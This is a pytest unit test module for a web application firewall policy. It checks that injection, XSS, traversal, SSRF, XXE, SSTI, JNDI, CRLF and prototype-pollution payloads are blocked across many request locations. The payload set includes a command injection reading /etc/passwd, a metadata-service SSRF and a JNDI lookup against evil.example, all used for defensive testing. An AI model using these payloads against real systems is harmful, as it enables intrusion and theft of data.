"""Unit: the waf policy blocks every attack class in every request location, with the audit details."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from bastion.chain.exchange import Exchange
from bastion.chain.policy import PolicyDeps
from bastion.http.problem import REQUEST_BLOCKED
from bastion.policies.waf import WafConfig, WafPolicy
from bastion.testing.exchange import make_exchange

PAYLOADS = {
    "sqli": "' or '1'='1",
    "xss": "<img src=x onerror=alert(1)>",
    "cmdi": "; cat /etc/passwd",
    "traversal": "../../../../etc/passwd",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
    "nosqli": '{"$ne": null}',
    "ldapi": "*)(uid=*))(|(uid=*",
    "xxe": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "ssti": "{{7*7}}",
    "jndi": "${${lower:j}ndi:ldap://evil.example/a}",
    "crlf": "x%0d%0aSet-Cookie: admin=1",
    "proto": "constructor.prototype.isAdmin",
}
LOCATIONS = ["path", "query", "header", "cookie", "json", "json_key", "form", "xml"]


def build(location: str, value: str) -> Exchange:
    if location == "path":
        return make_exchange("GET", "/api/items/" + value)  # the normalised (decoded) path
    if location == "query":
        return make_exchange("GET", "/api/items", query="page=1&q=" + quote(value, safe=""))
    if location == "header":
        return make_exchange("GET", "/api/items", headers=[("x-client-info", value)])
    if location == "cookie":
        return make_exchange("GET", "/api/items", headers=[("cookie", "theme=dark; pref=" + quote(value, safe=""))])
    if location == "form":
        return make_exchange("POST", "/api/items", headers=[("content-type", "application/x-www-form-urlencoded")],
                             body=("name=a&note=" + quote(value, safe="")).encode())
    if location == "xml":
        escaped = value.replace("&", "&amp;").replace("<", "&lt;")
        return make_exchange("POST", "/api/items", headers=[("content-type", "application/xml")],
                             body=f"<order><note>{escaped}</note></order>".encode())
    doc = {"order": {"items": [{"note": value}]}} if location == "json" else {"order": {"attrs": {value: 1}}}
    return make_exchange("POST", "/api/items", headers=[("content-type", "application/json")],
                         body=json.dumps(doc).encode())


@pytest.fixture(scope="module")
def policy() -> WafPolicy:
    return WafPolicy(WafConfig(), PolicyDeps())


@pytest.mark.anyio
@pytest.mark.parametrize("location", LOCATIONS)
@pytest.mark.parametrize("attack", PAYLOADS)
async def test_blocks_attack_class_in_location(policy: WafPolicy, attack: str, location: str) -> None:
    value = PAYLOADS[attack]
    if location == "path" and attack in ("traversal", "ssrf", "xxe", "crlf"):
        # the normaliser already resolved "..", collapsed "//" and refused raw CR/LF: use path-shaped payloads
        value = {"traversal": "..;/admin", "ssrf": "gopher:/127.0.0.1:6379/_x", "xxe": "<!ENTITY x SYSTEM 'y'>",
                 "crlf": "a%0d%0aLocation: x"}[attack]
    ex = build(location, value)
    problem = await policy.on_request(ex)
    assert problem is not None
    assert problem.status == 403 and problem.type == REQUEST_BLOCKED.uri
    note = ex.notes["waf"]
    assert note["attack"] == attack, note
    assert note["pointer"].startswith("/" + {"json": "body", "json_key": "body", "form": "body", "xml": "body",
                                             "header": "headers", "cookie": "cookies"}.get(location, location))


@pytest.mark.anyio
async def test_blocks_nosql_operator_as_query_brackets(policy: WafPolicy) -> None:
    ex = make_exchange("GET", "/login", query="user=admin&password[$ne]=x")
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["attack"] == "nosqli" and ex.notes["waf"]["pointer"] == "/query/password[$ne]"


@pytest.mark.anyio
async def test_blocks_prototype_pollution_nested_keys(policy: WafPolicy) -> None:
    body = b'{"settings": {"constructor": {"prototype": {"isAdmin": true}}}}'
    ex = make_exchange("POST", "/u", headers=[("content-type", "application/json")], body=body)
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["attack"] == "proto" and ex.notes["waf"]["pointer"] == "/body/settings/constructor/prototype"


@pytest.mark.anyio
async def test_blocks_xxe_document(policy: WafPolicy) -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    ex = make_exchange("POST", "/x", headers=[("content-type", "text/xml")], body=body)
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["attack"] == "xxe" and ex.notes["waf"]["pointer"] == "/body"


@pytest.mark.anyio
async def test_block_records_finding_without_echoing_input(policy: WafPolicy) -> None:
    secret_marker = "Zq7Xw9Kp2Lm4Nv8B"
    ex = build("query", f"{secret_marker}' or '1'='1")
    problem = await policy.on_request(ex)
    assert problem is not None
    body = problem.body(ex.request_id).decode()
    assert secret_marker not in body and "or" not in json.loads(body).get("detail", "").split()
    [finding] = ex.findings
    assert finding.rule_id == "waf.sqli" and finding.cwe == 89 and finding.owasp == "API8:2023"
    assert finding.location.pointer == "/query/q"
    assert finding.evidence is not None and secret_marker not in finding.evidence.request


def multipart(title: str, filename: str = "a.png") -> Exchange:
    body = (b'--XyZ\r\nContent-Disposition: form-data; name="title"\r\n\r\n' + title.encode() + b"\r\n"
            b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="' + filename.encode() + b'"\r\n'
            b"Content-Type: image/png\r\n\r\n\x89PNG\r\n;id|ls\x00\xff\r\n--XyZ--\r\n")
    return make_exchange("POST", "/upload", headers=[("content-type", "multipart/form-data; boundary=XyZ")], body=body)


@pytest.mark.anyio
async def test_blocks_attack_in_multipart_field(policy: WafPolicy) -> None:
    ex = multipart("<script>alert(1)</script>")
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["pointer"] == "/body/title"


@pytest.mark.anyio
async def test_blocks_traversal_in_multipart_filename(policy: WafPolicy) -> None:
    ex = multipart("holiday", filename="../../etc/passwd")
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["attack"] == "traversal" and ex.notes["waf"]["pointer"] == "/body/file/@filename"


@pytest.mark.anyio
async def test_binary_upload_parts_are_not_inspected_as_text(policy: WafPolicy) -> None:
    assert await policy.on_request(multipart("My holiday; photos")) is None
    raw = make_exchange("PUT", "/blob", headers=[("content-type", "application/octet-stream")], body=b";id|ls\x00")
    assert await policy.on_request(raw) is None


@pytest.mark.anyio
async def test_json_mislabelled_as_binary_is_still_inspected(policy: WafPolicy) -> None:
    ex = make_exchange("POST", "/x", headers=[("content-type", "application/octet-stream")], body=b'{"q": "{{7*7}}"}')
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["pointer"] == "/body/q"


@pytest.mark.anyio
async def test_ssrf_url_in_referer_is_blocked(policy: WafPolicy) -> None:
    ex = make_exchange("GET", "/x", headers=[("referer", "http://169.254.169.254/latest/meta-data/")])
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["attack"] == "ssrf"


@pytest.mark.anyio
async def test_internal_host_and_origin_headers_are_not_ssrf(policy: WafPolicy) -> None:
    headers = [("host", "10.0.0.5:8443"), ("x-forwarded-host", "127.0.0.1"), ("origin", "http://localhost:3000")]
    assert await policy.on_request(make_exchange("GET", "/x", headers=headers)) is None


def graphql(value: str) -> Exchange:
    literal = json.dumps(value)  # a JSON string is a GraphQL string literal
    document = f"mutation Save {{ saveNote(id: 7, text: {literal}) {{ id }} }}"
    return make_exchange("POST", "/graphql", headers=[("content-type", "application/json")],
                         body=json.dumps({"query": document, "operationName": "Save"}).encode())


@pytest.mark.anyio
@pytest.mark.parametrize("attack", PAYLOADS)
async def test_blocks_attack_class_in_a_graphql_argument(policy: WafPolicy, attack: str) -> None:
    ex = graphql(PAYLOADS[attack])
    assert await policy.on_request(ex) is not None
    assert ex.notes["waf"]["attack"] == attack, ex.notes["waf"]
    assert ex.notes["waf"]["pointer"] in ("/body/query/Save/saveNote/text", "/body/query"), ex.notes["waf"]


@pytest.mark.anyio
async def test_an_exclusion_of_the_graphql_document_covers_its_arguments(policy: WafPolicy) -> None:
    assert await policy.on_request(graphql("1 OR 4=4 --")) is not None
    excluded = WafPolicy(WafConfig.model_validate({"exclusions": [{"field": "/body/query", "rules": ["sqli"]}]}),
                         PolicyDeps())
    assert await excluded.on_request(graphql("1 OR 4=4 --")) is None
    ex = graphql("<svg onload=alert(1)>")
    assert await excluded.on_request(ex) is not None and ex.notes["waf"]["attack"] == "xss"
